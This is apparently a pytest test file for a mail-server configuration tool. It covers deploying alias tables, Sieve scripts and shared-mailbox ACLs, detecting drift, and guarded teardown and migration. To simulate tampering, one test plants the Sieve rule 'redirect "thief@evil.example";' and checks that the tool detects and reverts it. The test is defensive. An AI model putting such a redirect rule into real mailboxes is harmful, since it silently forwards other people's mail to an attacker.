"""Tables and scripts through the embedded engine: adopted, changed, repaired, taken away."""

from __future__ import annotations

import json

from tests.mail_host.server import MASTER_PASSWORD
from tests.mail_host.worlds import COMPANY, PEOPLE, Company
from tests.mailboxes.specs import DOMAIN

FOREIGN = b"# mine, caf\xe9\nroot@other.example  x@other.example\nhelp@acme-trade.com  wang@acme-trade.com\n"
OWN = 'require "fileinto";\r\nfileinto "Own";\r\n'
LOSS = "role-address-emptied"


def test_the_whole_life_of_a_company(served: Company) -> None:
    assert served.live is not None
    (served.tables / "aliases").write_bytes(FOREIGN)
    with served.live.session("wang") as session:
        session.put("own", OWN)
        session.activate("own")
    served.write()
    before = served.files(), served.scripts("wang")

    assert [step.action for step in served.run("preview").changes] == ["create"]
    assert (served.files(), served.scripts("wang")) == before and not served.state.exists()
    outcome = served.up()
    assert f"+ aliases info@{DOMAIN} wang+info@{DOMAIN}" in outcome.changes[0].lines
    scripts, active = served.scripts("wang")
    assert active == "mailwright" and 'include :personal :optional "own"' in scripts["mailwright"]
    assert served.files()["aliases"].startswith(FOREIGN)
    assert not served.up().changes
    deployed = served.files(), served.scripts("wang"), served.scripts("li")

    aliases = served.tables / "aliases"
    aliases.write_bytes(
        aliases.read_bytes().replace(b"sales@acme-trade.com  wang", b"sales@acme-trade.com  chen")
    )
    with served.live.session("wang") as session:
        session.put("mailwright", 'redirect "thief@evil.example";\r\n')
    drift = served.run("refresh")
    (step,) = drift.changes
    assert step.action == "drift"
    assert f"+ aliases sales@{DOMAIN} chen@{DOMAIN}, li@{DOMAIN}" in step.lines
    assert '    + redirect "thief@evil.example";' in step.lines
    served.up()
    assert (served.files(), served.scripts("wang"), served.scripts("li")) == deployed
    assert not served.up().changes

    refused = served.run("destroy")
    assert refused.refused and f"[{LOSS}] abuse@{DOMAIN}, " in refused.problems[0]
    assert (served.files(), served.scripts("wang"), served.scripts("li")) == deployed
    assert not served.run("destroy", allow=LOSS).problems
    assert (served.files(), served.scripts("wang")) == before
    assert json.loads(served.state.read_text())["deployment"]["resources"] == []


def test_who_reads_a_shared_mailbox_comes_and_goes_with_the_spec(company: Company) -> None:
    """Dovecot's ACL file, and its list of what is shared, which holds other domains too."""
    company.tables.mkdir()
    others = {
        "acl": b"Public user=guest lr\n",
        "shared": b"shared/shared-boxes/user/a@other.example/b@other.example\n1\n",
    }
    for name, octets in others.items():
        (company.tables / name).write_bytes(octets)
    shared = PEOPLE + "addresses: {support: {to: [li, wang], shared: true}}\n"
    company.write(shared)
    company.up()
    listed = (company.tables / "shared").read_text()
    assert f"user=li@{DOMAIN}  " in (company.tables / "acl").read_text()
    assert listed.startswith(others["shared"].decode()) and f"wang@{DOMAIN}/support@{DOMAIN}\n1\n" in listed
    assert not company.up().changes
    (company.tables / "shared").write_bytes(others["shared"])
    (step,) = company.run("refresh").changes
    assert [line[:9] for line in step.lines] == ["- shared "] * 2
    company.up()
    company.write(shared.replace("[li, wang]", "li"))
    company.up()
    listed = (company.tables / "shared").read_text()
    assert f"li@{DOMAIN}/support" in listed and f"wang@{DOMAIN}/support" not in listed
    company.run("destroy", allow=LOSS)
    assert company.files() == others


def test_no_password_is_in_the_state_or_in_what_is_said(served: Company) -> None:
    served.write()
    said = repr(served.up()) + repr(served.run("refresh"))
    assert MASTER_PASSWORD not in served.state.read_text()
    assert MASTER_PASSWORD not in said


def test_an_address_that_reached_somebody_goes_only_with_consent(company: Company) -> None:
    company.write(COMPANY)
    company.up()
    deployed = company.files()
    company.write(PEOPLE)
    for command in ("preview", "up"):
        outcome = company.run(command)
        assert outcome.refused and f"agent@{DOMAIN}, info@{DOMAIN}, sales@{DOMAIN}" in outcome.problems[0]
        assert company.files() == deployed
    company.write(PEOPLE, more=f"allow: [{{rule: {LOSS}, until: 2026-11-30, why: closed}}]\n")
    assert company.run("up", day="2026-12-01").refused
    company.up()
    assert not company.routing().reaches(f"info@{DOMAIN}") and company.routing().reaches(f"wang@{DOMAIN}")


LEAVING = """\
version: 1
domain: {domain}
timezone: Asia/Shanghai
mail_host: {{service: fastmail}}
moving_from:
  service: self-hosted
  mx: ["10 mail.{domain}"]
  ip4: [203.0.113.10]
  contract_until: 2027-06-30
  stage: {stage}
  maps: {{folder: {tables}}}
  confirmed:
    {{both_hold: 2026-11-01, addresses: 2026-11-01, signing: 2026-11-01, copied: 2026-11-01,
      silent: 2026-11-02}}
dns_hosts: [{{service: manual, console: aliyun}}]
contact: wang@{domain}
"""


def test_an_own_server_that_is_left_delivers_until_the_move_is_over(company: Company) -> None:
    company.write()
    company.up()
    before = company.routing().taking()
    assert before
    people = COMPANY[: COMPANY.index("rules:")]
    for stage in ("prepare", "switch", "clients", "withdraw"):
        text = LEAVING.format(domain=DOMAIN, stage=stage, tables=company.tables)
        company.spec.write_text(text + people, "utf-8")
        company.up()
        assert company.routing().taking() == before
    joined = people.replace("people: {", "people: {zhao: {}, ").replace("to: wang}", "to: zhao}")
    company.spec.write_text(text + joined, "utf-8")
    company.up()
    assert list(company.routing().ends(f"info@{DOMAIN}")) == [f"zhao@{DOMAIN}"], "stragglers reach zhao"
    over = text.replace(text[text.index("moving_from:") : text.index("dns_hosts:")], "")
    company.spec.write_text(over + joined, "utf-8")
    assert LOSS in str(company.run("up").problems), "nobody said yet that the old server may stop"
    assert not company.run("up", allow=LOSS).problems
    assert not company.files()
